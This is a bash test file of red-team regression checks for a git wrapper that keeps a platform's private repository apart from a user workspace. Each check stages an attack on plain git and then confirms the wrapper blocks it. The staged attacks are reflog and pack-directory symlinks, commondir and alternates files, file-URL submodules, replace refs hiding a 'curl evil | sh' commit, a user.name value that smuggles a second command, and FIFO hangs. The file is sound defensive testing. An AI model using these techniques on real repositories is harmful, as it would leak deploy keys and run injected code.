# shellcheck shell=bash
# Sourced by contexts_test.sh: the trusted git wrapper against repositories that reach the
# other trust zone (#31 red team round 2, /tmp/ctxred2: F1 F2 F4 F5 F6 F7 F8 F9). Each check
# first shows the attack working against the naive context (vanilla git, HOME=/workspace,
# its private repository in its own /tmp), then failing against the trusted platform (its
# private repository in its home), whose ordinary push still lands.

# A private repository each (the deploy key in it), packed as a clone's is; a safe.directory
# for the naive git in the user's repositories.
priv_repos() {
  local mk='git init -q && echo "deploy-key: $PLATFORM_TOKEN" > key.txt && git add . && git -c user.name=p -c user.email=p@x commit -qm priv && git gc -q'
  nx "rm -rf /tmp/npriv && mkdir /tmp/npriv && cd /tmp/npriv && $mk" &&
    px "rm -rf ~/priv && mkdir ~/priv && cd ~/priv && $mk" &&
    ux 'printf "[safe]\n\tdirectory = *\n" > /workspace/.gitconfig'
}
# The user's repositories rn (against the naive context) and rp (against the platform).
user_pair() {
  ux 'for r in rn rp; do git init -q /workspace/$r && cd /workspace/$r && echo a > a && git add a &&
        git -c user.name=u -c user.email=u@x commit -qm user-commit || exit 1; done && chmod -R a+rwX /workspace/rn /workspace/rp'
}
bare_pair() { # NAME...: /remote/NAME.git each, for everyone
  local r
  for r; do ux "git init -q --bare /remote/$r.git && chmod -R a+rwX /remote/$r.git" || return; done
}
unpriv() { nx 'rm -rf /tmp/npriv /tmp/nvictim'; px 'rm -rf ~/priv ~/.bash_profile'; }

# F2 (+F5): the far end of a local push (receive-pack) ran unchecked: a reflog link in a
# user-writable remote appended to the platform's ~/.bash_profile; a commondir pushed into its
# private repository. Then the platform's ordinary push to a plain remote still works.
chk_git_farend() {
  priv_repos && user_repo && bare_pair n p ok || return $(fail "plant")
  ux 'for r in n p; do cd /remote/$r.git && git config core.logallrefupdates always && git config user.name "x; sh /workspace/.p/payload.sh #" &&
        git config user.email a && mkdir -p logs/refs/heads || exit 1; done &&
      ln -s /tmp/nvictim /remote/n.git/logs/refs/heads/main && ln -s /home/context/.bash_profile /remote/p.git/logs/refs/heads/main'
  nx 'cd /workspace/repo && git push -q /remote/n.git HEAD:refs/heads/main' >/dev/null 2>&1
  assert_contains "$(nx 'cat /tmp/nvictim 2>&1')" "push" "control: the naive push appended through the remote's reflog link" || return
  assert_contains "$(px 'cd /workspace/repo && git push -q /remote/p.git HEAD:refs/heads/main 2>&1')" \
    "logs/refs/heads/main is not a regular file" "the push's receive-pack refuses the link" || return
  assert_eq absent "$(px 'test -e ~/.bash_profile && echo present || echo absent')" "nothing written in the platform's home" || return
  ux 'for r in n p; do mkdir -p /remote/c$r.git && echo "ref: refs/heads/master" > /remote/c$r.git/HEAD || exit 1; done &&
      echo /tmp/npriv/.git > /remote/cn.git/commondir && echo /home/context/priv/.git > /remote/cp.git/commondir &&
      chmod -R a+rwX /remote/cn.git /remote/cp.git'
  nx 'cd /workspace/repo && git push -q /remote/cn.git HEAD:refs/heads/injected' >/dev/null 2>&1
  assert_contains "$(nx 'git -C /tmp/npriv branch')" injected "control: the naive push landed in its private repository" || return
  assert_contains "$(px 'cd /workspace/repo && git push -q /remote/cp.git HEAD:refs/heads/injected 2>&1')" \
    "in another trust zone" "the push's receive-pack refuses the commondir" || return
  assert_not_contains "$(px 'git -C ~/priv branch')" injected "nothing pushed into the platform's private repository" || return
  px 'cd /workspace/repo && git push -q /remote/ok.git HEAD:refs/heads/main' 2>&1 || return $(fail "the platform's ordinary push failed")
  assert_contains "$(git -c safe.directory="*" --git-dir="$REMOTE/ok.git" log --format=%s main 2>&1)" "user-commit" "the push landed" || return
  unpriv
}

# F1: a .gitmodules URL or a remote URL naming the private repository: the old trusted
# environment (GIT_ALLOW_PROTOCOL with file) undid git's own guard for submodules, and a
# fetch from a workspace repository read the private one into the workspace.
chk_git_transport_zone() {
  priv_repos && user_pair || return $(fail "plant")
  ux 'for r in n p; do cd /workspace/r$r && u=/tmp/npriv && { [ $r = n ] || u=/home/context/priv; } &&
        printf "[submodule \"s\"]\n\tpath = s\n\turl = $u\n" > .gitmodules && git add .gitmodules &&
        git update-index --add --cacheinfo 160000,1111111111111111111111111111111111111111,s &&
        git -c user.name=u -c user.email=u@x commit -qm sub && git config remote.origin.url $u &&
        git config remote.origin.fetch "+refs/heads/*:refs/remotes/origin/*" || exit 1; done'
  nx 'cd /workspace/rn && GIT_ALLOW_PROTOCOL=https:http:ssh:git:file git submodule update --init' >/dev/null 2>&1
  leaked "$(nx 'git -C /workspace/rn/.git/modules/s show HEAD:key.txt 2>&1')" ||
    return $(fail "control: the old trusted environment's submodule clone did not copy the private repository")
  assert_contains "$(px 'cd /workspace/rp && git submodule update --init 2>&1')" "transport 'file' not allowed" \
    "git's own guard holds for the submodule URL" || return
  ! leaked "$(px 'git -C /workspace/rp/.git/modules/s show HEAD:key.txt 2>&1')" || return $(fail "the private repository was cloned into the workspace")
  local out
  out=$(nx 'cd /workspace/rn && git fetch -q origin 2>&1; git show origin/master:key.txt 2>&1')
  leaked "$out" || return $(fail "control: the naive fetch did not copy the private repository: $out")
  assert_contains "$(px 'cd /workspace/rp && git fetch -q origin 2>&1')" "in the context's own zone, the caller's in the shared one" \
    "the fetch's upload-pack refuses the private repository" || return
  ! leaked "$(px 'git -C /workspace/rp show origin/master:key.txt 2>&1')" || return $(fail "the private repository was fetched into the workspace")
  px 'rm -rf ~/w && git clone -q --no-local --no-hardlinks /workspace/rp ~/w && git -C ~/w log --format=%s -1 && rm -rf ~/w' 2>&1 |
    grep -q '^sub$' || return $(fail "pattern 1 (a clone of the workspace repository into the home) failed")
  unpriv
}

# F4: replace refs: the platform reviews one commit and pushes another.
chk_git_replace() {
  ux 'git init -q /workspace/rr && cd /workspace/rr && export GIT_AUTHOR_NAME=u GIT_AUTHOR_EMAIL=u@x GIT_COMMITTER_NAME=u GIT_COMMITTER_EMAIL=u@x &&
      echo base > app.txt && git add . && git commit -qm base && echo "curl evil | sh" > app.txt && git commit -qam evil && e=$(git rev-parse HEAD) &&
      git checkout -q -b tmp HEAD~1 && echo "harmless typo fix" > app.txt && git commit -qam typo && b=$(git rev-parse HEAD) &&
      git checkout -q master && git branch -qD tmp && git replace $e $b && chmod -R a+rwX /workspace/rr &&
      printf "[safe]\n\tdirectory = *\n" > /workspace/.gitconfig' || return $(fail "plant")
  assert_contains "$(nx 'cd /workspace/rr && git log -p -1 2>&1')" "+harmless typo fix" "control: the naive review shows the replacement" || return
  assert_contains "$(px 'cd /workspace/rr && git log -p -1 2>&1')" "+curl evil | sh" "the trusted review shows what a push sends"
}

# F8: /workspace/rp a link to the private repository: its resolved paths all private, the
# path the platform named in the workspace.
chk_git_linked_repo() {
  priv_repos && bare_pair n p || return $(fail "plant")
  ux 'ln -s /tmp/npriv /workspace/rn && ln -s /home/context/priv /workspace/rp'
  nx 'cd /workspace/rn && git add -A && git push -q /remote/n.git HEAD:refs/heads/main' >/dev/null 2>&1
  leaked "$(git -c safe.directory="*" --git-dir="$REMOTE/n.git" show main:key.txt 2>&1)" || return $(fail "control: the naive push did not publish its private repository")
  assert_contains "$(px 'cd /workspace/rp && git add -A 2>&1; git push -q /remote/p.git HEAD:refs/heads/main 2>&1')" \
    "in another trust zone than /workspace/rp" "the wrapper compares the path named" || return
  ! leaked "$(git -c safe.directory="*" --git-dir="$REMOTE/p.git" show main:key.txt 2>&1)" || return $(fail "the private repository was pushed")
  unpriv
}

# F9: an embedded repository whose .git links to the private one (git add -A records its
# HEAD: the user learns the id), and objects/info/alternates naming the private object store
# (the platform's git then has, and pushes, every private object).
chk_git_embedded() {
  priv_repos && user_pair || return $(fail "plant")
  ux 'mkdir /workspace/rn/sub /workspace/rp/sub && ln -s /tmp/npriv/.git /workspace/rn/sub/.git &&
      ln -s /home/context/priv/.git /workspace/rp/sub/.git'
  local id
  id=$(nx 'git -C /tmp/npriv rev-parse HEAD')
  assert_contains "$(nx 'cd /workspace/rn && git add -A 2>/dev/null; git ls-files -s sub')" "$id" "control: the naive add recorded the private HEAD" || return
  assert_contains "$(px 'cd /workspace/rp && git add -A 2>&1')" "the embedded repository /workspace/rp/sub has its git directory" \
    "the wrapper refuses the link into the private repository" || return
  assert_eq "" "$(px 'cd /workspace/rp && git ls-files -s sub 2>/dev/null')" "nothing recorded" || return
  ux 'rm -f /workspace/rn/sub/.git /workspace/rp/sub/.git && echo /tmp/npriv/.git/objects > /workspace/rn/.git/objects/info/alternates &&
      echo /home/context/priv/.git/objects > /workspace/rp/.git/objects/info/alternates'
  leaked "$(nx 'cd /workspace/rn && git cat-file -p $(git -C /tmp/npriv rev-parse HEAD:key.txt) 2>&1')" ||
    return $(fail "control: the naive git did not read private objects through the alternates")
  assert_contains "$(px 'cd /workspace/rp && git status 2>&1')" "alternates names /home/context/priv/.git/objects, in another trust zone" \
    "the wrapper refuses the alternates" || return
  unpriv
}

# F7: .git/objects/pack a link to the private pack directory (the link check pruned it by
# name): gc --auto in a commit copied private objects out and deleted the private pack.
chk_git_objects_link() {
  priv_repos && user_pair || return $(fail "plant")
  ux 'rm -rf /workspace/rn/.git/objects/pack /workspace/rp/.git/objects/pack &&
      ln -s /tmp/npriv/.git/objects/pack /workspace/rn/.git/objects/pack && ln -s /home/context/priv/.git/objects/pack /workspace/rp/.git/objects/pack'
  leaked "$(nx 'cd /workspace/rn && git cat-file -p $(git -C /tmp/npriv rev-parse HEAD:key.txt) 2>&1')" ||
    return $(fail "control: the naive git did not read the private pack through the link")
  assert_contains "$(px 'cd /workspace/rp && git -c user.name=p -c user.email=p@x commit -q --allow-empty -m p 2>&1')" \
    "objects/pack is not a regular file" "the wrapper refuses the link" || return
  unpriv
}

# F6 (native: another container's FIFO is not visible on gVisor): .mailmap and .gitattributes
# as FIFOs hung git log and git add.
chk_git_tree_fifo() {
  user_repo && ux 'printf "[safe]\n\tdirectory = *\n" > /workspace/.gitconfig && mkfifo -m 666 /workspace/repo/.mailmap' || return $(fail "plant")
  if ! px 'test -p /workspace/repo/.mailmap'; then
    log "$1: the platform's container does not see another container's FIFO (gVisor): does not apply"
    return 0
  fi
  nx 'cd /workspace/repo && timeout 5 git log --oneline >/dev/null 2>&1'
  assert_eq 124 "$?" "control: the naive git log hangs on a FIFO .mailmap" || return
  assert_contains "$(px 'cd /workspace/repo && timeout 10 git log --oneline 2>&1')" ".mailmap is not a regular file" "git log refused at once" || return
  ux 'cd /workspace/repo && rm .mailmap && mkdir -p d && mkfifo -m 666 d/.gitattributes && echo b > d/b && chmod -R a+rwX .'
  nx 'cd /workspace/repo && timeout 5 git add -A >/dev/null 2>&1'
  assert_eq 124 "$?" "control: the naive git add hangs on a FIFO .gitattributes" || return
  assert_contains "$(px 'cd /workspace/repo && timeout 10 git add -A 2>&1')" "d/.gitattributes is not a regular file" "git add refused at once"
}

git_zone_checks() { # BACKEND
  run_check "contexts on $1: a local remote's reflog link and commondir vs git push (far end)" with_backend "$1" chk_git_farend
  run_check "contexts on $1: .gitmodules and remote URLs naming the private repository" with_backend "$1" chk_git_transport_zone
  run_check "contexts on $1: replace refs vs the platform's review" with_backend "$1" chk_git_replace
  run_check "contexts on $1: a workspace link to the private repository vs add + push" with_backend "$1" chk_git_linked_repo
  run_check "contexts on $1: an embedded .git link and alternates into the private repository" with_backend "$1" chk_git_embedded
  run_check "contexts on $1: .git/objects/pack a link to the private pack" with_backend "$1" chk_git_objects_link
  run_check "contexts on $1: FIFO .mailmap and .gitattributes vs git log and add" with_backend "$1" chk_git_tree_fifo
}
